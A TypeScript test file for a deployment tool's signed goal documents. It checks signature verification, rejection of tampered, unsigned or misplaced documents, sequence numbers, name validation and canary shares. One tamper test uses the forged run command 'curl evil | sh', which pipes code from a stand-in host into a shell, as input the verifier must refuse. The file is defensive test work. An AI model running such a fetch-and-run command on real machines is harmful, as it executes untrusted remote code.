import { describe, expect, it } from 'vitest';
import { FleetcastError } from '../errors/index.ts';
import { generateSigningKey, signingKeyFromPem, VerifyingKeyring } from '../trust/index.ts';
import { decodeGoal, decodePrefetchHint, encodeGoal, goalContent } from './goal-document.ts';
import { nextSeq, signGoal } from './goal-signer.ts';
import { goalKey, statusKey, validateMachine, validateRegion, validateService } from './names.ts';
import { sampleGoal } from '../test/support/sample-goal.ts';

const bytes = (value: unknown) => new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value));
const key = signingKeyFromPem(generateSigningKey().privatePem);
const keyring = new VerifyingKeyring(key.publicKey);
const trusted = { keyring };

function thrown(fn: () => unknown): FleetcastError {
  try {
    fn();
  } catch (err) {
    if (err instanceof FleetcastError) return err;
    throw err;
  }
  throw new Error('expected a FleetcastError');
}

describe('signed goal documents (version 2)', () => {
  it('round-trip: signed over every field, purpose and sequence included, and verified on read', () => {
    const content = sampleGoal('api', 'eu', 42, { p2pKey: 'ab'.repeat(32), kind: 'rollback', reason: 'latency', runCommand: './api --port 8080', healthUrl: 'http://127.0.0.1:8080/healthz' });
    const goal = signGoal(content, 'goal', 1_700_000_000_000, key);
    expect(goal).toMatchObject({ v: 2, purpose: 'goal', seq: 1_700_000_000_000, sig: { key: key.keyId } });
    expect(decodeGoal(encodeGoal(goal), 'api.eu', 3, trusted)).toEqual(goal);
    expect(goalContent(goal)).toEqual(content);
  });

  it('refuse a document whose run command, build or sequence changed under the original signature', () => {
    const goal = signGoal(sampleGoal('api', 'eu', 42, { runCommand: './api' }), 'goal', 5, key);
    for (const forged of [{ ...goal, runCommand: 'curl evil | sh' }, { ...goal, build: 'b666' }, { ...goal, seq: goal.seq + 1_000 }, { ...goal, digest: 'f'.repeat(64) }]) {
      const err = thrown(() => decodeGoal(bytes(forged), 'api.eu', 9, trusted));
      expect(err.code).toBe('GOAL_SIGNATURE_INVALID');
      expect(err.message).toContain('its signature does not match its content');
      expect(err.details).toMatchObject({ key: 'api.eu', revision: 9, problem: 'BAD_SIGNATURE' });
    }
  });

  it('refuse unsigned documents: version 1 (written before goals were signed) and version 2 without sig', () => {
    const { v: _v, purpose: _p, seq: _s, sig: _sig, ...content } = signGoal(sampleGoal('api', 'eu', 1), 'goal', 5, key);
    const v1 = thrown(() => decodeGoal(bytes({ v: 1, ...content }), 'api.eu', 1, trusted));
    expect(v1).toMatchObject({ code: 'GOAL_SIGNATURE_INVALID', details: { problem: 'UNSIGNED' } });
    expect(v1.message).toContain('unsigned version-1 document');
    expect(thrown(() => decodeGoal(bytes({ v: 2, purpose: 'goal', seq: 5, ...content }), 'api.eu', 1, trusted))).toMatchObject({ code: 'GOAL_SIGNATURE_INVALID', details: { problem: 'UNSIGNED' } });
  });

  it('refuse a document signed by a key the reader does not trust, and every document when it trusts none', () => {
    const stranger = signingKeyFromPem(generateSigningKey().privatePem);
    const goal = signGoal(sampleGoal('api', 'eu', 1), 'goal', 5, stranger);
    const err = thrown(() => decodeGoal(encodeGoal(goal), 'api.eu', 1, trusted));
    expect(err).toMatchObject({ code: 'GOAL_SIGNATURE_INVALID', details: { problem: 'UNKNOWN_KEY' } });
    expect(err.message).toContain(`signed by key ${stranger.keyId}`);
    expect(thrown(() => decodeGoal(encodeGoal(signGoal(sampleGoal('api', 'eu', 1), 'goal', 5, key)), 'api.eu', 1, { keyring: undefined }))).toMatchObject({ details: { problem: 'NO_TRUSTED_KEYS' } });
  });

  it('refuse a real signature in the wrong place: a hint under the goal key, another region\'s goal, a goal as a hint', () => {
    const hint = signGoal(sampleGoal('api', 'eu', 2), 'prefetch', 7, key);
    expect(thrown(() => decodeGoal(encodeGoal(hint), 'api.eu', 1, trusted))).toMatchObject({ code: 'GOAL_SIGNATURE_INVALID', details: { problem: 'MISPLACED' } });
    expect(decodePrefetchHint(encodeGoal(hint), 'api_prefetch.eu', 1, trusted).build).toBe('b2');
    const us = signGoal(sampleGoal('api', 'us', 2), 'goal', 7, key);
    expect(thrown(() => decodeGoal(encodeGoal(us), 'api.eu', 1, trusted)).message).toContain('signed as the goal api.us');
    expect(thrown(() => decodePrefetchHint(encodeGoal(us), 'api_prefetch.us', 1, trusted))).toMatchObject({ details: { problem: 'MISPLACED' } });
  });

  it('refuse to sign invalid content, naming the fields', () => {
    const err = thrown(() => signGoal(sampleGoal('api', 'eu', 1, { build: '42', size: -1 }), 'goal', 1, key));
    expect(err.code).toBe('INVALID_INPUT');
    expect(err.message).toContain('build: a build id such as b42');
    expect(err.message).toContain('size');
  });

  it('read whatever is malformed as GOAL_INVALID with key and revision', () => {
    const cases: [unknown, RegExp][] = [
      ['{nope', /not JSON/],
      [{ ...sampleGoal('api', 'eu', 1), v: 4 }, /unknown document version 4/],
      [null, /document/],
      [[1, 2], /document/],
    ];
    for (const [value, problem] of cases) {
      const err = thrown(() => decodeGoal(bytes(value), 'api.eu', 7, trusted));
      expect(err.code).toBe('GOAL_INVALID');
      expect(err.message).toMatch(problem);
      expect(err.details).toMatchObject({ key: 'api.eu', revision: 7 });
    }
  });
});

describe('goal sequences', () => {
  it('grow past the previous one and never fall below the clock (a bucket lost and made again)', () => {
    expect(nextSeq(undefined, 1_700_000_000_000)).toBe(1_700_000_000_000);
    expect(nextSeq(1_700_000_000_500, 1_700_000_000_000)).toBe(1_700_000_000_501);
    expect(nextSeq(41, 1_700_000_000_000)).toBe(1_700_000_000_000);
  });
});

describe('names', () => {
  it('validate services, regions and machines as single subject tokens', () => {
    expect(goalKey('api', 'eu-west')).toBe('api.eu-west');
    expect(statusKey('api', 'web-1_a')).toBe('api.web-1_a');
    for (const bad of ['Api', '1api', 'a.b', 'a*', '', 'x'.repeat(64)]) expect(() => validateService(bad)).toThrow(/invalid service name/);
    for (const bad of ['EU', 'eu.west', '', 'hub']) expect(() => validateRegion(bad)).toThrow(/invalid region name/);
    for (const bad of ['web-1.eu', '-a', 'a>', '', 'm'.repeat(129)]) expect(() => validateMachine(bad)).toThrow(/invalid machine id/);
  });
});

describe('canary goals (version 3: a share of the region)', () => {
  it('the share is signed with the rest: changing or removing it breaks the signature', () => {
    const goal = signGoal({ ...sampleGoal('api', 'eu', 42), canary: { share: 25 } }, 'goal', 7, key);
    expect(goal).toMatchObject({ v: 3, canary: { share: 25 } });
    expect(decodeGoal(encodeGoal(goal), 'api.eu', 3, trusted)).toEqual(goal);
    const { canary: _canary, ...whole } = goal;
    for (const forged of [{ ...goal, canary: { share: 99 } }, { ...whole, v: 2 }]) {
      expect(thrown(() => decodeGoal(bytes(forged), 'api.eu', 4, trusted)).details).toMatchObject({ problem: 'BAD_SIGNATURE' });
    }
  });

  it('a whole-region goal stays version 2, byte for byte as before shares; a hint never carries a share', () => {
    const goal = signGoal(sampleGoal('api', 'eu', 42), 'goal', 7, key);
    expect(goal.v).toBe(2);
    expect('canary' in goal).toBe(false);
    const hint = signGoal({ ...sampleGoal('api', 'eu', 42), canary: { share: 5 } }, 'prefetch', 8, key);
    expect(hint).toMatchObject({ v: 2, purpose: 'prefetch' });
    expect('canary' in hint).toBe(false);
  });

  it('refuses a share out of range before signing, and a version that does not match its share', async () => {
    expect(thrown(() => signGoal({ ...sampleGoal('api', 'eu', 42), canary: { share: 100 } }, 'goal', 7, key)).code).toBe('INVALID_INPUT');
    // Signed as version 3 without a share (no coordinator writes that): malformed.
    const { canary: _c, ...rest } = signGoal({ ...sampleGoal('api', 'eu', 42), canary: { share: 5 } }, 'goal', 7, key);
    const { sig: _sig, ...unsigned } = rest;
    const { signDocument } = await import('../trust/index.ts');
    const odd = signDocument(unsigned, key);
    expect(thrown(() => decodeGoal(bytes(odd), 'api.eu', 5, trusted))).toMatchObject({ code: 'GOAL_INVALID' });
  });
});
